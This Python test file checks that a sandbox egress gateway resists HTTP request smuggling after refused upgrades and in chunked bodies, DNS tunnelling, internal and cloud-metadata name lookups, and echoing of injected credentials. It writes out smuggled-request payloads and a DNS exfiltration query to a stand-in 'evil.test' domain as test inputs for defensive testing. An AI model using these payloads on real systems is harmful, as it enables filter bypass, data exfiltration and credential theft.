"""Class "the upstream sees only what the gateway checked", from inside the VMs:
requests after an upgrade the server did not accept (pipelined or not, with or without
`Connection: Upgrade`, on port 80 and on the credential leg), a chunked body aimed at a
server that frames by Content-Length only, an address the gateway host gained after the
gateway started, a CIDR rule used as a DNS tunnel, internal names under `open`, cloud
host-service addresses, and an echoing upstream handing an injected secret back."""
import json
import time

import netlab

TOKEN = netlab.TOKEN
ALLOWED_IP, API_IP, ECHO_IP, LEGACY_IP = "203.0.113.10", "203.0.113.30", "203.0.113.20", "203.0.113.40"
SMUGGLED = "GET /smuggled HTTP/1.1\\r\\nHost: blocked.test\\r\\n\\r\\n"
UPGRADE = "Upgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n" \
          "Sec-WebSocket-Version: 13\\r\\n"


def requests_seen(lab, mark):
    return [e for e in lab.since(mark) if e["kind"] == "http"]


def smuggled(lab, mark):
    return [e for e in requests_seen(lab, mark) if e["path"] == "/smuggled" or
            e["host"].split(":")[0] in ("blocked.test", "legacyblocked.test")]


def upgrade_cases(host):
    return "GET / HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\n" % (host, UPGRADE), SMUGGLED


def test_refused_upgrade_then_other_host_port80(lab, sb):
    """The server answers the upgrade with 200: what follows is still parsed."""
    mark = lab.mark()
    first, second = upgrade_cases("allowed.test")
    only_upgrade = "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: websocket\\r\\n\\r\\n"
    res = sb.batch([("http", ALLOWED_IP, "80", first + second),            # pipelined
                    ("httpseq", ALLOWED_IP, "80", "1", first, second),     # after the answer
                    ("http", ALLOWED_IP, "80", only_upgrade + second),     # no Connection: Upgrade
                    ("httpseq", ALLOWED_IP, "80", "1", only_upgrade, second)])
    for r in res:
        assert "HTTP/1.1 403" in r["reply"], res
    assert not smuggled(lab, mark), smuggled(lab, mark)


def test_refused_upgrade_then_other_host_credential_leg(lab, sb):
    """Same on the intercepted (credential-injecting) TLS leg: 421 for the other Host."""
    mark = lab.mark()
    first, second = upgrade_cases("api.test")
    only_upgrade = "GET / HTTP/1.1\\r\\nHost: api.test\\r\\nUpgrade: websocket\\r\\n\\r\\n"
    res = sb.batch([("tlsraw", API_IP, "443", "api.test", sb.ca, "0", first + second),
                    ("tlsraw", API_IP, "443", "api.test", sb.ca, "1", first, second),
                    ("tlsraw", API_IP, "443", "api.test", sb.ca, "1", only_upgrade, second)])
    for r in res:
        assert r["ok"] and "HTTP/1.1 421" in r["reply"], res
    assert not smuggled(lab, mark), smuggled(lab, mark)
    assert TOKEN not in json.dumps(res)


def test_accepted_upgrade_still_works(lab, sb):
    """Positive control: a 101 from the server turns the connection into a stream."""
    mark = lab.mark()
    r = sb.py("httpseq", ALLOWED_IP, "80", "1",
              "GET /ws HTTP/1.1\\r\\nHost: allowed.test\\r\\n%s\\r\\n" % UPGRADE, "raw-frame-bytes")
    assert r["reply"].startswith("HTTP/1.1 101"), r
    assert r["reply"].endswith("raw-frame-bytes"), r
    assert [e["data"] for e in lab.since(mark, "ws_data")] == ["raw-frame-bytes"]


def test_chunked_body_to_content_length_server(lab, sb):
    """A server that ignores Transfer-Encoding must receive the body the gateway framed,
    never a request hidden in chunk data or chunk extensions."""
    mark = lab.mark()
    inner = "GET /smuggled HTTP/1.1\r\nHost: legacyblocked.test\r\n\r\n"
    esc = inner.replace("\r\n", "\\r\\n")
    head = "POST /a HTTP/1.1\\r\\nHost: legacy.allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
    res = sb.batch([
        ("http", LEGACY_IP, "80", head + "%x\\r\\n%s\\r\\n0\\r\\n\\r\\n" % (len(inner), esc)),
        ("http", LEGACY_IP, "80", head + "%x;ext=1\\r\\n%s\\r\\n0;x\\r\\n\\r\\n" % (len(inner), esc)),
        ("http", LEGACY_IP, "80", head + "1;\\r\\nz\\r\\n0\\r\\nX-Trailer: 1\\r\\n\\r\\n" + esc),
    ])
    time.sleep(0.3)
    assert not smuggled(lab, mark), (smuggled(lab, mark), res)
    seen = [e for e in requests_seen(lab, mark) if e.get("legacy")]
    # The first two were forwarded whole, with the framing the gateway decided on.
    bodies = [e["body"] for e in seen if e["path"] == "/a"]
    assert bodies[:2] == [inner, inner], seen
    assert all("transfer-encoding" not in e["headers"] for e in seen), seen


def test_address_added_after_start_is_the_hosts_own(lab, sb):
    """An address the gateway host gains while running is forbidden at once."""
    netlab.sh("ip", "addr", "add", "192.0.2.99/32", "dev", "lo", ns=lab.gwns)
    canary = lab.spawn_canary("192.0.2.99")
    try:
        time.sleep(0.5)
        mark = lab.mark()
        res = sb.batch([("dns", netlab.GW_IP, "late.allowed.test", "1"),
                        ("fetch", "http://late.allowed.test/", json.dumps({"timeout": 5})),
                        ("fetch", "https://late.allowed.test/", json.dumps({"cafile": sb.ca, "timeout": 5}))])
        assert res[0]["rcode"] == 0 and res[0]["answers"] == [], res
        assert not res[1]["ok"] or "space-gateway" in res[1]["body"], res
        assert not res[2]["ok"], res
        time.sleep(0.3)
        assert not [e for e in lab.since(mark) if e["kind"] == "canary"]
    finally:
        canary.kill()
        canary.wait()
        netlab.sh("ip", "addr", "del", "192.0.2.99/32", "dev", "lo", ns=lab.gwns)


def test_cidr_rule_is_no_dns_tunnel(lab, sb):
    """A CIDR rule constrains addresses; it does not make every name resolvable."""
    assert sb.set_policy({"mode": "allowlist", "allow": ["203.0.113.0/24"]})["ok"]
    mark = lab.mark()
    res = sb.batch([("dns", netlab.GW_IP, "c2VjcmV0.tunnel.evil.test", "1"),
                    ("fetch", "https://x1.tunnel.evil.test/", json.dumps({"cafile": sb.ca, "resolve": ECHO_IP,
                                                                       "timeout": 5})),
                    ("fetch", "http://x2.tunnel.evil.test/", json.dumps({"resolve": ECHO_IP, "timeout": 5}))])
    assert res[0]["rcode"] == 3, res
    assert not res[1]["ok"], res
    time.sleep(0.3)
    asked = [e["name"] for e in lab.since(mark, "dns")]
    assert not [n for n in asked if n and "tunnel" in n], asked


def test_internal_names_never_resolved_upstream(lab, sb_open):
    """Under `open`, internal and single-label names are refused locally: as DNS
    queries, as SNI and as Host."""
    names = ["metadata.google.internal", "db.internal", "printer.local", "x.localhost",
             "router.home.arpa", "nas.lan", "metadata", "wpad"]
    mark = lab.mark()
    calls = []
    for n in names:
        calls += [("dns", netlab.GW_IP, n, "1"),
                  ("hello", ECHO_IP, "443", json.dumps({"snis": [n]})),
                  ("http", ECHO_IP, "80", "GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % n)]
    res = sb_open.batch(calls)
    for i, n in enumerate(names):
        dns, hello, http = res[3 * i:3 * i + 3]
        assert dns["rcode"] in (3, 5) and not dns["answers"], (n, dns)
        assert hello["reset"] or hello["closed"], (n, hello)
        assert "HTTP/1.1 403" in http["reply"], (n, http)
    time.sleep(0.3)
    asked = [e["name"] for e in lab.since(mark, "dns")]
    assert not [a for a in asked if a and a.rstrip(".") in names], asked


def test_cloud_host_service_addresses_forbidden(lab, sb_open):
    """Azure's WireServer (168.63.129.16) is a public address but a host service."""
    before = lab.counters()["c_168_63_129_16"]
    res = sb_open.batch([("dns", netlab.GW_IP, "wire.allowed.test", "1"),
                         ("fetch", "http://wire.allowed.test/", json.dumps({"timeout": 5}))])
    assert res[0]["answers"] == [], res
    assert not res[1]["ok"] or "space-gateway" in res[1]["body"], res
    assert lab.counters()["c_168_63_129_16"] == before


def test_echoed_secret_scrubbed(lab, sb):
    """An upstream with a credential rule that reflects requests (JSON echo, header
    echo, TRACE) never hands the injected secret to the VM."""
    mark = lab.mark()
    res = sb.batch([
        ("fetch", "https://reflect.allowed.test/json", json.dumps({"cafile": sb.ca})),
        ("fetch", "https://reflect.allowed.test/hdr", json.dumps({"cafile": sb.ca})),
        ("tlsraw", ECHO_IP, "443", "reflect.allowed.test", sb.ca, "0",
         "TRACE / HTTP/1.1\\r\\nHost: reflect.allowed.test\\r\\nConnection: close\\r\\n\\r\\n"),
    ])
    assert res[0]["status"] == 200 and res[1]["status"] == 200, res
    assert "HTTP/1.1 200" in res[2]["reply"], res
    assert TOKEN not in json.dumps(res), res
    # ...while the upstream did receive it: the echo would have carried it.
    seen = [e for e in requests_seen(lab, mark) if e["host"] == "reflect.allowed.test"]
    assert len(seen) == 3 and all(e["headers"].get("Authorization") == "Bearer " + TOKEN for e in seen), seen
